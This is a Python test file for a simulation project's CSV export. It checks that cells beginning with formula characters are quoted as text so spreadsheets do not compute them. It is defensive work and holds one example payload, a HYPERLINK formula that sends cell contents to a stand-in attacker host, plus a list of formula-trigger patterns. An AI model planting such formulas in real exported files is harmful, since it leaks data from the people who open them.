"""CSV files that a spreadsheet opens: no text in them is computed, and none is lost."""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from itcho.experiments.runs.exports import ExportFormat, export_run
from itcho.experiments.runs.run_folder import RunFolder
from itcho.experiments.runs.spreadsheet_cells import as_cell, from_cell, read_back
from itcho.experiments.view.run_data import read_run
from itcho.model.economy import JapanEconomy

DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1", "''@x"]
HARMLESS = ["", "actual", "a=b", "2026-04-30", "'quoted'", "'", "日本", " =1"]
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def a_formula(text: str) -> bool:
    """Whether a spreadsheet would compute this cell; a number is none."""
    return bool(re.match("[=+\\-@\t\r\n＝＋－＠]", text)) and not re.fullmatch(r"-[\d.]+(e[-+]?\d+)?", text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_becomes_text_and_comes_back(text: str) -> None:
    assert as_cell(text) == f"'{text}"
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone_both_ways(text: str) -> None:
    assert as_cell(text) == text
    assert from_cell(text) == text


@pytest.mark.parametrize("value", [-1.5, -3, 0.0, None, True])
def test_numbers_are_no_text(value: Any) -> None:
    assert as_cell(value) is value


def test_a_table_written_and_read_is_the_table(tmp_path: Path) -> None:
    texts = [*DANGEROUS[:4], *DANGEROUS[7:], *HARMLESS[1:]]
    table = pd.DataFrame({"=name": texts, "value": [-1.0 * place for place in range(len(texts))]})
    with RunFolder(tmp_path / "run") as folder:
        folder.write_table(table, "table.csv")
        folder.write_manifest({})
        place = folder.commit()
    written = cells(place / "table.csv")
    assert written[0] == ["'=name", "value"]
    assert written[1:3] == [["'=1+1", "-0.0"], ["'+1", "-1.0"]]
    assert not any(a_formula(cell) for row in written for cell in row)
    pd.testing.assert_frame_equal(read_back(pd.read_csv(place / "table.csv", keep_default_na=False)), table)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of half a year whose ledger holds a party with a formula for a label."""
    from itcho.experiments.cli.run import run_and_show
    from itcho.experiments.runs.run_request import RunRequest

    place = tmp_path_factory.mktemp("cells") / "run"
    made = run_and_show(RunRequest(years=1, investors=100, importers=60, adopters=80, out=place), as_json=True)
    parties = pd.read_csv(made / "parties.csv", keep_default_na=False)
    labels = parties["label"].mask(parties["name"] == "nvidia", ATTACK)
    with RunFolder(made / "again") as folder:
        folder.write_table(parties.assign(label=labels), "parties.csv")
        shutil.copy(folder.path / "parties.csv", made / "parties.csv")
    # The label is the run's own, not damage: its sum belongs to it.
    manifest = json.loads((made / "manifest.json").read_text(encoding="utf-8"))
    manifest["sha256"]["parties.csv"] = hashlib.sha256((made / "parties.csv").read_bytes()).hexdigest()
    (made / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return made


def test_our_own_reader_gives_the_name_and_the_export_hides_it_again(run: Path, tmp_path: Path) -> None:
    data = read_run(run)
    assert data.parties.set_index("name").loc["nvidia", "label"] == ATTACK
    place = export_run(data, {ExportFormat.CSV}, None, tmp_path / "exported")
    labels = {row[0]: row[1] for row in cells(place / "parties.csv")}
    assert labels["nvidia"] == f"'{ATTACK}"
    for file in place.glob("*.csv"):
        assert not any(a_formula(cell) for row in cells(file) for cell in row), file.name


def test_no_cell_of_a_runs_folder_is_a_formula(run: Path) -> None:
    files = sorted(run.glob("*.csv"))
    assert len(files) > 5
    for file in files:
        assert not any(a_formula(cell) for row in cells(file) for cell in row), file.name


def test_an_agents_name_given_by_a_user_is_no_formula(tmp_path: Path) -> None:
    """Edges name parties; what the ledger calls one is what a user called it."""
    economy = JapanEconomy(rng=1, investors=100, importers=60, adopters=80)
    economy.step()
    edges = economy.edge_table().replace({"nvidia": "+cmd"})
    assert (edges["payee"] == "+cmd").any()
    with RunFolder(tmp_path / "run") as folder:
        folder.write_table(edges, "edges.csv")
        folder.write_manifest({})
        place = folder.commit()
    assert {row[2] for row in cells(place / "edges.csv")} & {"+cmd", "'+cmd"} == {"'+cmd"}
    assert read_back(pd.read_csv(place / "edges.csv"))["payee"].tolist() == edges["payee"].tolist()


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(importlib.util.find_spec("playwright") is None or CHROMIUM is None, reason="no browser")
def test_the_reports_button_does_the_same(run: Path) -> None:
    """The page of a report, whose script makes the file; what holds quotation marks is quoted as ever."""
    from playwright.sync_api import sync_playwright

    from itcho.experiments.view.report import content_of, page, write_page

    report = run.with_name("report.html")
    write_page(page(content_of(run)[0]), report)
    rows = [[text, -1.5] for text in [*DANGEROUS, *HARMLESS, ATTACK]]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        opened = browser.new_page()
        opened.goto(f"file://{report}")
        made = opened.evaluate("rows => globalThis.itchoPage.csv(['=name', 'value'], rows)", rows)
        browser.close()
    back = list(csv.reader(io.StringIO(made, newline="")))
    assert back[0] == ["'=name", "value"]
    assert [row[0] for row in back[1:]] == [as_cell(text) for text, _ in rows]
    assert {row[1] for row in back[1:]} == {"-1.5"}
